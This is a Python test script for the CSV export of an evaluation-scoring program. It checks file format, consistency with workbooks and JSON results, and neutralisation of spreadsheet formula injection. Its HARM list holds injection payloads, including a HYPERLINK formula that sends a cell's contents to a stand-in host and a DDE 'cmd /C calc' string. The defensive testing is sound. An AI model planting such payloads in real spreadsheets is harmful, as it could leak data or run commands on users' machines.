#!/usr/bin/python3
"""The .csv files of `scorer score --csv`: test_csv.py PROGRAM. They are read with Python's csv module
and with LibreOffice, and held against the workbooks and results.json. Ends with a line `N passed, N
failed`."""

import csv
import datetime
import filecmp
import glob
import io
import itertools
import json
import os
import re
import resource
import shutil
import signal
import subprocess
import sys
import tempfile
from decimal import Decimal
from xml.etree import ElementTree
from xml.sax.saxutils import escape, quoteattr

import openpyxl

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
sys.path.insert(0, f"{ROOT}/tests/support")
from suite import Tests  # noqa: E402

sys.path.insert(0, f"{ROOT}/tests/workbooks")
from book import Table  # noqa: E402

SAMPLE = f"{ROOT}/tests/samples/linfen-2022"
RULINGS = [f"{SAMPLE}/appeal-1.xml", f"{SAMPLE}/appeal-2.xml"]
MARK = "演示数据，非真实考核结果"
PROGRAM = os.path.abspath(sys.argv[1])

tests = Tests()


def scorer(*arguments, **keywords):
    return subprocess.run([PROGRAM, *arguments], stdin=subprocess.DEVNULL, capture_output=True,
                          text=True, check=False, **keywords)


def score(out, rulings, *more, evaluation=f"{SAMPLE}/evaluation.xml"):
    named = [part for file in rulings for part in ("--rulings", file)]
    done = scorer("score", evaluation, *named, "--out", out, "--quiet", "--templates",
                  f"{ROOT}/templates", *more)
    tests.check(f"{os.path.basename(out)} is scored", done.returncode == 0, done.stderr)
    return out


def csv_files(folder):
    return sorted(glob.glob(f"{folder}/csv/**/*.csv", recursive=True))


def files_of(folder):
    return sorted(os.path.relpath(path, folder) for path in
                  glob.glob(f"{folder}/**", recursive=True) if os.path.isfile(path))


def text_of(path):
    with open(path, "rb") as file:
        return file.read()


def rows_of(path):
    text = text_of(path).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


# ---- the form of the files ----

FIELD = r'(?:"(?:[^"]|"")*"|[^",\r\n]*)'
RFC_4180 = re.compile(rf"(?:{FIELD}(?:,{FIELD})*\r\n)+")


def test_form(folder):
    for path in csv_files(folder):
        data = text_of(path)
        name = os.path.relpath(path, folder)
        tests.check(f"{name}: byte order mark", data.startswith(b'\xef\xbb\xbf"'))
        tests.check(f"{name}: RFC 4180", RFC_4180.fullmatch(data.decode("utf-8-sig")))
        rows = rows_of(path)
        tests.check(f"{name}: every row is as wide as the headings",
                    {len(row) for row in rows} == {len(rows[0])})
        tests.check(f"{name}: every heading is there, once",
                    all(rows[0]) and len(set(rows[0])) == len(rows[0]), rows[0])


# ---- the same as the workbooks ----

def is_placeholder(table, row):
    """Whether the row says in one merged cell that there are no rows."""
    first = row[table.headings[0]]
    return any(area.min_row == first.row and area.min_col == 1 and area.max_col > 1
               for area in table.sheet.merged_cells.ranges)


def workbook_rows(table):
    """Values of the body; what a merged cell says holds for all that it covers."""
    above = {}
    for area in table.sheet.merged_cells.ranges:
        for row in range(area.min_row, area.max_row + 1):
            above[row, area.min_col] = table.sheet.cell(area.min_row, area.min_col).value
    for row in table.body():
        if not is_placeholder(table, row):
            yield [above.get((cell.row, cell.column), cell.value) for cell in row.values()]


def same(cell, text):
    """Whether a workbook's value is what the text says. Excel keeps 17 digits of a number."""
    if cell is None:
        return text == ""
    if isinstance(cell, datetime.datetime):
        return cell.strftime("%Y-%m-%d") == text
    if isinstance(cell, (int, float)):
        return re.fullmatch(r"-?\d+(\.\d+)?", text) and Decimal(repr(cell)) == Decimal(text)
    return unguarded(text) == cell


def unguarded(text):
    """The text without the apostrophes that keep it from running."""
    return re.sub(r"(^|(?<=[,;|\t\r\n]))'(?=['\" 　]*[=+\-@＝＋－＠])", "", text)


def compare_table(name, table, rows):
    *headings, last = rows[0]
    tests.check(f"{name}: demonstration data says so",
                last == MARK and all(row[-1] == "是" for row in rows[1:]))
    # The reader of workbooks joins a group and a heading by another stroke.
    tests.check(f"{name}: headings", [h.replace("／", "/") for h in headings] == table.headings,
                (headings, table.headings))
    body = list(workbook_rows(table))
    tests.check(f"{name}: rows", len(body) == len(rows) - 1, (len(body), len(rows)))
    wrong, said = [], [""] * len(headings)
    for number, (cells, row) in enumerate(zip(body, rows[1:]), 2):
        for i, (cell, text) in enumerate(zip(cells, row)):
            # Behind a page break the workbook leaves a number out that goes on.
            goes_on = cell is None and text == said[i]
            if not same(cell, text) and not goes_on:
                wrong.append((number, headings[i], cell, text))
        said = row
    tests.check(f"{name}: cells", not wrong, wrong[:5])


def csv_folder(folder, workbook):
    return f"{folder}/csv/" + os.path.relpath(workbook, folder)[:-len(".xlsx")]


def test_workbooks(folder):
    seen = set()
    for path in sorted(glob.glob(f"{folder}/*.xlsx") + glob.glob(f"{folder}/sheets/*.xlsx")):
        book = openpyxl.load_workbook(path, data_only=True)
        for sheet in book:
            if not sheet.print_title_rows:
                continue
            own = f"{csv_folder(folder, path)}/{sheet.title}.csv"
            seen.add(own)
            compare_table(os.path.relpath(own, folder), Table(sheet), rows_of(own))
    tests.check("no other files", seen == set(csv_files(folder)), seen ^ set(csv_files(folder)))


# ---- the same as results.json ----

def table_of(path):
    headings, *rows = rows_of(path)
    return [dict(zip(headings, row)) for row in rows]


def test_results(folder):
    with open(f"{folder}/results.json", encoding="utf-8") as file:
        classes = json.load(file)["classes"]
    columns = {"最终得分": "final", "折算得分": "converted", "指标得分": "base", "重大扣分": "major",
               "亮点加分": "bonus", "加分/倒扣": "symmetric", "实际得分": "actual", "适用权重": "applicable",
               "单位": "name", "等次": "grade"}
    for one in classes:
        rows = table_of(f"{folder}/csv/ranking/{one['class']}类排名.csv")
        tests.check("units in rank order", [row["单位"] for row in rows] ==
                    [unit["name"] for unit in one["units"]])
        for row, unit in zip(rows, one["units"]):
            for heading, key in columns.items():
                tests.check(f"{unit['id']}: {heading}, to the character",
                            row[heading] == unit[key], (row[heading], unit[key]))
            tests.check(f"{unit['id']}: rank", row["名次"] == str(unit["rank"]))
    records = [record for one in classes for unit in one["units"] for record in unit["records"]]
    ledgers = {"扣分台账": ["deduct"], "加分台账": ["bonus", "symmetric"], "重大扣分台账": ["major"],
               "其他得分台账": ["award", "rate", "level", "direct"]}
    for name, kinds in ledgers.items():
        rows = table_of(f"{folder}/csv/ranking/{name}.csv")
        expected = {r["id"]: r for r in records if r["kind"] in kinds}
        tests.check(f"{name}: each record, and nothing else",
                    sorted(row["记录编号"] for row in rows) == sorted(expected))
        for heading, key in (("应扣分", "claimed"), ("实扣分", "effective")):
            if heading in rows[0]:
                tests.check(f"{name}: {heading}", all(row[heading] == expected[row["记录编号"]][key]
                                                     for row in rows))


# ---- a result folder with and without ----

def test_folder(temporary, whole):
    done = scorer("verify", whole)
    tests.check("verify computes the files again", done.returncode == 0, done.stdout + done.stderr)
    with open(f"{whole}/MANIFEST", encoding="utf-8") as file:
        listed = {line.split("  ", 1)[1].rstrip("\n") for line in file}
    tests.check("MANIFEST covers them",
                {os.path.relpath(path, whole) for path in csv_files(whole)} <= listed)

    folder = f"{temporary}/copy"
    shutil.copytree(whole, folder)
    path = f"{folder}/csv/ranking/A类排名.csv"
    data = text_of(path)
    with open(path, "wb") as file:
        file.write(data.replace(b",1,", b",2,", 1))
    done = scorer("verify", folder)
    tests.check("a changed file is seen", done.returncode == 4 and
                "changed output: csv/ranking/A类排名.csv" in done.stdout, done.stdout)
    os.remove(path)
    done = scorer("verify", folder)
    tests.check("a missing file is seen", done.returncode == 4 and
                "missing output: csv/ranking/A类排名.csv" in done.stdout, done.stdout)

    score(folder, RULINGS, "--csv")
    tests.check("the same bytes once more", text_of(path) == data)
    os.makedirs(f"{folder}/csv/mine")
    with open(f"{folder}/csv/mine/a.csv", "w", encoding="utf-8") as file:
        file.write("mine")
    score(folder, RULINGS)
    tests.check("without --csv they go, and what a person put there stays",
                [os.path.relpath(p, folder) for p in csv_files(folder)] == ["csv/mine/a.csv"])
    tests.check("the folders go too", os.listdir(f"{folder}/csv") == ["mine"])
    rest = [name for name in files_of(whole) if not name.startswith("csv/")]
    tests.check("all else is there as before", all(
        filecmp.cmp(f"{folder}/{name}", f"{whole}/{name}", False) for name in rest
        if name not in ("MANIFEST", "run.json")))
    shutil.rmtree(f"{folder}/csv")
    done = scorer("verify", folder)
    tests.check("a result without .csv files verifies", done.returncode == 0, done.stdout)


def test_record(temporary, whole):
    folder = f"{temporary}/record"
    shutil.copytree(whole, folder)
    with open(f"{folder}/run.json", encoding="utf-8") as file:
        text = file.read()
    tests.check("run.json says so", '"csv": true' in text)
    with open(f"{folder}/run.json", "w", encoding="utf-8") as file:
        file.write(text.replace('"csv": true', '"csv": "perhaps"'))
    done = scorer("verify", folder)
    tests.check("nothing else is taken", "run.json is not of the form" in done.stdout, done.stdout)


def test_threads(temporary, whole):
    alone = f"{temporary}/alone"
    done = subprocess.run(["taskset", "-c", "0", PROGRAM, "score", f"{SAMPLE}/evaluation.xml",
                           "--rulings", RULINGS[0], "--rulings", RULINGS[1], "--csv", "-q",
                           "--templates", f"{ROOT}/templates", "--out", alone],
                          capture_output=True, text=True, check=False)
    tests.check("one thread", done.returncode == 0, done.stderr)
    tests.check("the same files with one thread and with many",
                text_of(f"{alone}/MANIFEST") == text_of(f"{whole}/MANIFEST"))


def test_names(temporary):
    """Two sheets of one name, and one that a file cannot have."""
    templates = f"{temporary}/templates"
    shutil.copytree(f"{ROOT}/templates", templates)
    with open(f"{templates}/ranking.xml", encoding="utf-8") as file:
        text = file.read()
    for old, new in (("加分台账", "扣分台账"), ("等次", "等/次")):
        text = text.replace(f'name="{old}"', f'name="{new}"', 1)
    with open(f"{templates}/ranking.xml", "w", encoding="utf-8") as file:
        file.write(text)
    done = scorer("score", f"{SAMPLE}/evaluation.xml", "--csv", "-q", "--templates", templates,
                  "--out", f"{temporary}/names")
    tests.check("templates of one's own", done.returncode == 0, done.stderr)
    for name, heading in (("扣分台账", "扣分条款"), ("扣分台账 (2)", "类别"), ("等_次", "名额比例")):
        path = f"{temporary}/names/csv/ranking/{name}.csv"
        tests.check(f"{name} is there", os.path.exists(path) and heading in rows_of(path)[0])


def test_usage(temporary):
    for arguments in (["--csv", "--json"], ["--csv"]):
        done = scorer("score", f"{SAMPLE}/evaluation.xml", *arguments, cwd=temporary)
        tests.check(f"{arguments} is refused", done.returncode == 2 and not done.stdout and
                    "`--csv` goes with `--out DIR`" in done.stderr, done.stderr)
    tests.check("the help tells of it", "--csv" in scorer("score", "--help").stdout)


# ---- texts that mean harm ----

HARM = ["=HYPERLINK(\"http://x.example/\"&A1;\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
        "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "　＝1+1", "＋1", "－1", "＠x", "\ufeff=1+1", "\u200b=1+1",
        "\"=1+1\"", "'=1+1", "x\";=1+1;\"y", "x,=1+1,y", "x\",=1+1,\"y", "x\n=1+1\ny", "x\r\n-1+1",
        "x\t=1+1", "x;\"\"=1+1&\"\"", "x|=1+1|y", "1,2;3|4\t5\"6'7\r\n8", "\"\"\"", ",", "\"", "x\n\n\n",
        "https://x.example/?a=1&b=-2"]


def attribute(text):
    """As an attribute of XML in which line breaks and tabs stay what they are."""
    return quoteattr(text, {"\n": "&#10;", "\r": "&#13;", "\t": "&#9;"})


def element(text):
    return escape(text, {"\r": "&#13;"})


def harmful_case(folder):
    """An evaluation with a harmful text wherever a text may stand, one after the other, each with an
    ending of its own."""
    harm = (f"{text}#{number}" for number, text in enumerate(itertools.cycle(HARM)))
    a = lambda: attribute(next(harm))  # noqa: E731
    t = lambda: element(next(harm))  # noqa: E731
    leaves = "".join(
        f"<indicator id='L{i}' title={a()} weight='1'><criterion>{t()}</criterion>"
        f"<clause id='L{i}-a' points='0.1' per={a()}>{t()}</clause></indicator>" for i in range(30))
    # Names hold only what is seen: what else there is in a roster is refused.
    seen = (f"{text}#{i}" for i, text in enumerate(itertools.cycle(
        text for text in HARM if not re.search("[\t\r\n\ufeff\u200b]", text))))
    n = lambda: attribute(next(seen).strip())  # noqa: E731
    units = "".join(f"<unit id='U{i:02}' name={n()} short={n()}/>" for i in range(30))
    os.makedirs(folder)
    files = {
        "rubric.xml": f"<rubric id='r' class='K' year='2022' full='31' title={a()}><source>{t()}</source>"
                      f"<grade name={a()} from='25'/><grade name={a()} rectify='yes'/>"
                      f"<convert title={a()} full='4'/>"
                      f"<part id='p' title={a()} weight='31'><indicator id='I' title={a()} weight='30'>"
                      f"{leaves}</indicator><indicator id='X' title={a()} weight='1' exemptible='yes'>"
                      f"<clause id='X-a' points='0.1'>{t()}</clause></indicator></part>"
                      f"<major><clause id='M' points='1'>{t()}</clause></major>"
                      f"<bonus><clause id='B' points='1'>{t()}</clause></bonus></rubric>",
        "roster.xml": f"<roster id='ro' title={a()}><source>{t()}</source><class id='K' title='甲=类'>"
                      f"{units}</class></roster>",
        "evaluation.xml": f"<evaluation id='e' title={a()} date='2022-12-30' roster='roster.xml'>"
                          "<rubric file='rubric.xml'/>" + "".join(
                              f"<unit ref='U{i:02}'><record id='R{i}' item='L{i}-a' count='3' "
                              f"assessor={a()} evidence={a()}>{t()}</record>"
                              f"<record id='M{i}' item='M' count='1' evidence={a()}>{t()}</record>"
                              f"<record id='B{i}' item='B' count='1' evidence={a()}>{t()}</record>"
                              f"<exempt item='X' reason={a()}/></unit>" for i in range(30)) +
                          "</evaluation>",
        "rulings.xml": f"<rulings id='a' evaluation='e' title={a()} date='2023-01-10'>" + "".join(
            f"<ruling id='S{i}' unit='U{i:02}' record='R{i}' decision='{decision}' by={a()} basis={a()} "
            f"date='2023-01-08'>{t()}</ruling>"
            for i, decision in enumerate(["revoke", "uphold"] * 15)) + "</rulings>"}
    for name, text in files.items():
        with open(f"{folder}/{name}", "w", encoding="utf-8", newline="") as file:
            file.write('<?xml version="1.0" encoding="UTF-8"?>' + text)
    return f"{folder}/evaluation.xml", [f"{folder}/rulings.xml"]


NUMBER = re.compile(r"-?\d+(\.\d+)?")


def runs(text):
    """Whether a spreadsheet may take a cell with that text for a formula. With an apostrophe in front
    it is a text."""
    bare = text.lstrip(" \"　\u00a0\ufeff\u200b")
    return bare[:1] in tuple("=+-@＝＋－＠\t\r\n") and bare != ""


def test_harm(temporary):
    evaluation, rulings = harmful_case(f"{temporary}/harm")
    folder = score(f"{temporary}/harmful", rulings, "--csv", evaluation=evaluation)
    for path in csv_files(folder):
        name = os.path.relpath(path, folder)
        rows = rows_of(path)
        cells = [cell for row in rows for cell in row]
        bad = [cell for cell in cells if runs(cell) and not NUMBER.fullmatch(cell)]
        tests.check(f"{name}: nothing runs", not bad, bad[:5])
        # A program that takes something else for the end of a cell, quotation marks or not.
        plain = text_of(path).decode("utf-8-sig")
        for separator in (",", ";", "\t", "|", "\n"):
            pieces = re.split(f"[\r\n{re.escape(separator)}]", plain)
            bad = [p for p in pieces if runs(p) and not NUMBER.fullmatch(p.strip("\" "))]
            tests.check(f"{name}: nothing runs when read with {separator!r}", not bad, bad[:5])
    return folder


def bare(text):
    """The text without apostrophes and outer white space."""
    return text.replace("'", "").strip()


def test_texts_are_whole(folder, temporary):
    """Evidence, texts and reasons come back as they were written, but for the apostrophes."""
    expected = {}
    for record in ElementTree.parse(f"{temporary}/harm/evaluation.xml").iter("record"):
        expected[record.get("id")] = (record.get("evidence"), record.text)
    for ledger, found in (("扣分台账", "发现的情况"), ("重大扣分台账", "发现的情况"), ("加分台账", "情况")):
        for row in table_of(f"{folder}/csv/ranking/{ledger}.csv"):
            evidence, text = expected[row["记录编号"]]
            tests.check(f"{row['记录编号']}: evidence", bare(row["印证材料"]) == bare(evidence),
                        (row["印证材料"], evidence))
            tests.check(f"{row['记录编号']}: text", bare(row[found]) == bare(text),
                        (row[found], text))


def libreoffice(files, folder, separator):
    """Opens the files as a person does who says which separator and asks for formulas; the workbooks
    that come of it. The options: separator, quotation mark, UTF-8, from line 1, all columns as they
    are, any language, quoted cells not as texts, special numbers told, …, formulas run."""
    profile = tempfile.mkdtemp()
    options = f"CSV:{separator},34,76,1,,0,false,true,false,false,false,0,true"
    done = subprocess.run(["libreoffice", f"-env:UserInstallation=file://{profile}", "--headless",
                           f"--infilter={options}", "--convert-to", "xlsx", "--outdir", folder,
                           *files], capture_output=True, text=True, check=False)
    shutil.rmtree(profile, ignore_errors=True)
    tests.check(f"LibreOffice opens the files ({separator})", done.returncode == 0 and
                len(os.listdir(folder)) == len(files), done.stderr)
    return sorted(glob.glob(f"{folder}/*.xlsx"))


def test_libreoffice(temporary, folder):
    if not shutil.which("libreoffice"):
        print("libreoffice is not installed: opening with it is left out")
        return
    trial = f"{temporary}/trial"
    os.makedirs(trial)
    with open(f"{trial}/trial.csv", "w", encoding="utf-8") as file:
        file.write('"x","=1+1"\r\n')
    files = [f"{trial}/trial.csv"]
    for path in csv_files(folder):  # of many score sheets, ten
        if "/sheets/" not in path or re.search("/U0", path):
            files.append(f"{trial}/{len(files)}.csv")
            shutil.copy(path, files[-1])
    for separator in (44, 59):
        os.makedirs(f"{trial}/{separator}")
        for path in libreoffice(files, f"{trial}/{separator}", separator):
            cells = [cell for row in openpyxl.load_workbook(path).active.iter_rows() for cell in row]
            formulas = [cell.value for cell in cells if cell.data_type == "f"]
            if path.endswith("trial.xlsx"):
                tests.check("LibreOffice runs a formula where there is one",
                            bool(formulas) == (separator == 44), formulas)
            else:
                tests.check(f"no formula ({separator})", not formulas, formulas[:5])


# ---- writing that fails ----

def limit_files():
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (1000000, 1000000))


def test_no_room(temporary):
    """A standard of 30,000 characters stands in each of the 50 rows of a score sheet: too much for a
    file of a megabyte, while the workbook, where it is one merged cell, is small."""
    folder = f"{temporary}/long"
    os.makedirs(folder)
    records = "".join(f"<record id='R{i}' item='a' count='1'>x</record>" for i in range(50))
    for name, text in {
            "rubric.xml": "<rubric id='r' class='K' year='2022' full='9' title='t'><grade name='好'/>"
                          "<part id='p' title='p' weight='9'><indicator id='I' title='I' weight='9'>"
                          f"<criterion>{'x' * 30000}</criterion><clause id='a' points='0.1'>a</clause>"
                          "</indicator></part></rubric>",
            "roster.xml": "<roster id='ro' title='t'><class id='K' title='K'><unit id='U' name='U'/>"
                          "</class></roster>",
            "evaluation.xml": "<evaluation id='e' title='t' date='2022-12-30' roster='roster.xml'>"
                              f"<rubric file='rubric.xml'/><unit ref='U'>{records}</unit></evaluation>"
    }.items():
        with open(f"{folder}/{name}", "w", encoding="utf-8") as file:
            file.write(text)
    score(f"{temporary}/small", [], evaluation=f"{folder}/evaluation.xml")
    before = files_of(f"{temporary}/small")
    for out in ("small", "fresh"):
        done = scorer("score", f"{folder}/evaluation.xml", "--out", f"{temporary}/{out}", "--csv",
                      "--templates", f"{ROOT}/templates", preexec_fn=limit_files)
        tests.check("a file that does not fit", done.returncode == 3 and
                    re.search(r"csv/sheets/U-U: File too large", done.stderr), done.stderr)
    tests.check("the earlier result is whole", files_of(f"{temporary}/small") == before and
                scorer("verify", f"{temporary}/small").returncode == 0)
    tests.check("nothing is left", not os.path.exists(f"{temporary}/fresh") and
                not [n for n in os.listdir(temporary) if n.startswith(".")], os.listdir(temporary))


def main():
    with tempfile.TemporaryDirectory() as temporary:
        whole = score(f"{temporary}/whole", RULINGS, "--csv")
        test_form(whole)
        test_workbooks(whole)
        test_results(whole)
        test_folder(temporary, whole)
        test_record(temporary, whole)
        test_threads(temporary, whole)
        test_names(temporary)
        test_usage(temporary)
        harmful = test_harm(temporary)
        test_form(harmful)
        test_texts_are_whole(harmful, temporary)
        test_libreoffice(temporary, harmful)
        test_no_room(temporary)
    return tests.close()


if __name__ == "__main__":
    sys.exit(main())
